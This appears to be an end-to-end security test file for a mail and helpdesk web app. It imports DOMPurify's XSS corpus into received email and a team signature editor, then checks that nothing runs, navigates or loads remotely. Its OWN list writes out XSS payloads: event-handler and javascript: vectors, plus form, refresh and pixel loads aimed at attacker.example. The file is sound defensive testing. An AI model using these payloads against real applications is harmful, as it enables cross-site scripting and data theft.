// SPEC §8 against a public XSS corpus (tests/e2e/corpus/: DOMPurify's fixture payloads, plus a
// few mail-specific vectors of ours): every payload arrives as the HTML body (and subject and
// sender name) of received mail, and as a team signature typed in the fallback email dialog's
// HTML mode, shown in the editor and the preview and saved. Traps in every frame and page:
// alert/confirm/prompt/print overrides, dialogs, requests leaving the app's origin, navigations,
// popups and CSP violations in the app. Nothing may fire, and the stored signature is inert.

import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { distDir, repoRoot } from './support/paths.mjs';
import { startServer } from './support/server.mjs';
import { launchBrowser, newPage, openApp, pageProblems } from './support/browser.mjs';
import { firedSummary, installTraps, receivedEmail } from './support/hostile.mjs';

let server;
let browser;
let payloads;

// Mail-specific vectors the corpus does not cover: navigation and loads a mail body could try.
const OWN = [
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">',
  '<base href="https://attacker.example/"><a href="relative">relative</a>',
  '<form action="https://attacker.example/steal"><input name=q value=1><button>Go</button></form>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<img src=x onerror=alert(1)><body onload=alert(1)>',
  '<link rel=stylesheet href="https://attacker.example/x.css">',
  '<div style="background:url(https://attacker.example/bg.png)">bg</div>',
  '<style>@import "https://attacker.example/i.css"; @font-face{font-family:x;src:url(https://attacker.example/f.woff)}</style>',
  '<a href="javascript:alert(1)" id=js>js</a><a href=" JaVaScRiPt:alert(1)">js2</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="https://attacker.example/pixel.gif" width=1 height=1>',
];

before(async () => {
  server = await startServer({ root: distDir });
  browser = await launchBrowser();
  const corpus = JSON.parse(await readFile(join(repoRoot, 'tests/e2e/corpus/dompurify-payloads.json'), 'utf8'));
  payloads = [...corpus.payloads.map((p) => p.payload), ...OWN];
});

after(async () => {
  await browser?.close();
  await server?.close();
});

function batches(list, size) {
  const out = [];
  for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size));
  return out;
}

function unexpectedProblems(page) {
  // Chromium reports what the sandbox and the frame CSP block as console errors: that is the
  // defence working, not a fault. ("Blocked script execution in 'about:srcdoc'" is also what the
  // traps' own init script gets in every sandboxed frame.)
  return pageProblems(page).filter((p) => !p.includes('Content Security Policy')
    && !p.includes("Blocked script execution in 'about:srcdoc' because the document's frame is sandboxed"));
}

async function settle(page) {
  await page.waitForTimeout(400);
}

// Received mail is cleaned in the app page before it goes into its sandboxed frame: the pure
// allow-list runs first, so no inline handler reaches a DOMParser there (Chromium would report
// each one as a CSP violation). The signature editor keeps remote images parked behind a local
// placeholder while they sit in the app's DOM, so a pasted tracking pixel makes no request.
test('corpus payloads as received mail: nothing runs, navigates or leaves', async () => {
  const context = await browser.newContext();
  const fired = await installTraps(context, server.url);
  try {
    const page = await newPage(context);
    await openApp(page, `${server.url}/`);
    fired.start();
    // Every payload wrapped so an unclosed tag swallows as little as possible.
    const groups = batches(payloads, 30);
    const emails = groups.map((group, i) => {
      const subject = `XSS batch ${i} ${randomUUID().slice(0, 6)} ${group[0].slice(0, 60)}`;
      const html = group.map((p) => `<div class="case">${p}</div>`).join('\n');
      return { subject, email: receivedEmail({ subject, html, fromName: `Batch ${i} <img src=x onerror=alert(1)>` }) };
    });
    await page.goto(`${server.url}/inbox/all-open?inbox=inbox-support`);
    await page.getByRole('heading', { level: 1, name: 'Inbox' }).waitFor();
    await page.getByLabel('Import email').setInputFiles(emails.map((e) => e.email));
    const results = page.getByRole('region', { name: 'Import results' });
    for (const { email } of emails) {
      await results.getByRole('listitem').filter({ hasText: email.name }).waitFor();
    }
    const list = page.getByRole('list', { name: 'Conversations' });
    const threads = [];
    for (const [i] of emails.entries()) {
      await list.getByRole('link', { name: new RegExp(`XSS batch ${i} `) }).first().click();
      const thread = page.getByRole('region', { name: 'Conversation' });
      await thread.getByRole('heading', { level: 2, name: new RegExp(`XSS batch ${i} `) }).waitFor();
      await thread.locator('iframe.sb-msg__frame').first().waitFor();
      await settle(page);
      threads.push(page.url());
    }
    assert.deepEqual(firedSummary(fired), { dialogs: [], foreignRequests: [], navigations: [], popups: [], scripts: [], violations: [] });

    // Once the rep allows images, images may load (the trap aborts them) and nothing else.
    for (const url of threads) {
      await page.goto(url);
      const thread = page.getByRole('region', { name: 'Conversation' });
      await thread.locator('iframe.sb-msg__frame').first().waitFor();
      const show = thread.getByRole('button', { name: 'Show images', exact: true });
      if (await show.count()) {
        await show.first().click();
        await settle(page);
      }
    }
    const summary = firedSummary(fired);
    summary.foreignRequests = summary.foreignRequests.filter((r) => !r.startsWith('image '));
    assert.deepEqual(summary, { dialogs: [], foreignRequests: [], navigations: [], popups: [], scripts: [], violations: [] });
    assert.ok(page.url().startsWith(server.url), `the app did not navigate: ${page.url()}`);
    assert.deepEqual(unexpectedProblems(page), []);
  } finally {
    await context.close();
  }
});

test('corpus payloads as a team signature: the editor and preview stay inert, storage is clean', async () => {
  const context = await browser.newContext();
  const fired = await installTraps(context, server.url);
  try {
    const page = await newPage(context);
    await openApp(page, `${server.url}/settings/inboxes?inbox=inbox-support`);
    fired.start();
    const signature = payloads.join('\n');
    await page.getByRole('button', { name: 'Edit fallback email' }).click();
    const dialog = page.getByRole('dialog', { name: 'Fallback email' });
    const enable = dialog.getByLabel('Enable team signature');
    if (!(await enable.isChecked())) await enable.check();
    await dialog.getByRole('button', { name: 'HTML', exact: true }).click();
    await dialog.getByLabel('Signature HTML').fill(signature);
    await settle(page);
    // Back to the visual editor: the HTML goes into the app's own DOM (made inert first).
    await dialog.getByRole('button', { name: 'HTML', exact: true }).click();
    await dialog.getByRole('textbox', { name: 'Team signature' }).waitFor();
    await page.frameLocator('iframe[title="Signature preview"]').locator('body').waitFor();
    await settle(page);
    await dialog.getByRole('button', { name: 'Save' }).click();
    await dialog.waitFor({ state: 'hidden' });

    // What was stored is inert: reopen, read the HTML mode.
    await page.reload();
    await page.getByRole('heading', { level: 1, name: 'Inboxes' }).waitFor();
    await page.getByRole('button', { name: 'Edit fallback email' }).click();
    await dialog.getByRole('button', { name: 'HTML', exact: true }).click();
    const stored = (await dialog.getByLabel('Signature HTML').inputValue()).toLowerCase();
    assert.ok(stored.length > 0, 'the signature was saved');
    // Text and quoted attribute values may mention anything; elements and attributes may not.
    // Checked on the parsed HTML (DOMParser documents are inert: nothing loads or runs).
    const found = await page.evaluate((html) => {
      const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
      return [...doc.body.querySelectorAll('*')].map((el) => ({
        tag: el.localName,
        attrs: [...el.attributes].map((a) => [a.name, a.value]),
      }));
    }, stored);
    const TAGS = new Set(['a', 'b', 'strong', 'i', 'em', 'u', 's', 'br', 'p', 'div', 'span', 'img', 'ul', 'ol', 'li', 'blockquote', 'h1', 'h2', 'h3', 'h4', 'hr', 'small', 'sub', 'sup', 'font', 'table', 'tbody', 'thead', 'tr', 'td', 'th']);
    const ATTRS = new Set(['href', 'src', 'alt', 'width', 'height', 'color', 'size', 'face', 'colspan', 'rowspan', 'target', 'rel', 'title']);
    for (const { tag, attrs } of found) {
      assert.ok(TAGS.has(tag), `unexpected element <${tag}> in the stored signature`);
      for (const [name, value] of attrs) {
        assert.ok(ATTRS.has(name), `unexpected attribute ${name} on <${tag}>`);
        if (name === 'href') assert.match(value.trim(), /^(https?:|mailto:)/i, `href ${value}`);
        if (name === 'src') assert.match(value.trim(), /^(https?:|data:image\/(png|gif|jpeg|webp))/i, `src ${value}`);
      }
    }
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await settle(page);
    assert.deepEqual(firedSummary(fired), { dialogs: [], foreignRequests: [], navigations: [], popups: [], scripts: [], violations: [] });
    assert.deepEqual(unexpectedProblems(page), []);
  } finally {
    await context.close();
  }
});

test('the signature Preview loads remote images only once the designer presses Show images', async () => {
  const context = await browser.newContext();
  const fired = await installTraps(context, server.url);
  try {
    const page = await newPage(context);
    await openApp(page, `${server.url}/settings/inboxes?inbox=inbox-support`);
    fired.start();
    await page.getByRole('button', { name: 'Edit fallback email' }).click();
    const dialog = page.getByRole('dialog', { name: 'Fallback email' });
    const enable = dialog.getByLabel('Enable team signature');
    if (!(await enable.isChecked())) await enable.check();
    await dialog.getByRole('button', { name: 'HTML', exact: true }).click();
    await dialog.getByLabel('Signature HTML').fill('<p>Logo <img src="https://attacker.example/logo.png" alt="Logo"></p>');
    const frame = dialog.locator('iframe[title="Signature preview"]');
    await page.waitForFunction(() => /data-sb-src="https:\/\/attacker\.example\/logo\.png"/
      .test(document.querySelector('iframe[title="Signature preview"]')?.getAttribute('srcdoc') ?? ''));
    await settle(page);
    assert.deepEqual(fired.foreignRequests, [], 'nothing loads before the designer asks');

    const show = dialog.getByRole('button', { name: 'Show images', exact: true });
    await show.click();
    assert.equal(await show.getAttribute('aria-pressed'), 'true');
    assert.match(await frame.getAttribute('srcdoc'), /<img src="https:\/\/attacker\.example\/logo\.png"/);
    // The route handler records the request when it reaches the network.
    for (let i = 0; i < 50 && fired.foreignRequests.length === 0; i++) await page.waitForTimeout(100);
    assert.deepEqual(fired.foreignRequests, ['image https://attacker.example/logo.png']);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    const summary = firedSummary(fired);
    summary.foreignRequests = [];
    assert.deepEqual(summary, { dialogs: [], foreignRequests: [], navigations: [], popups: [], scripts: [], violations: [] });
  } finally {
    await context.close();
  }
});
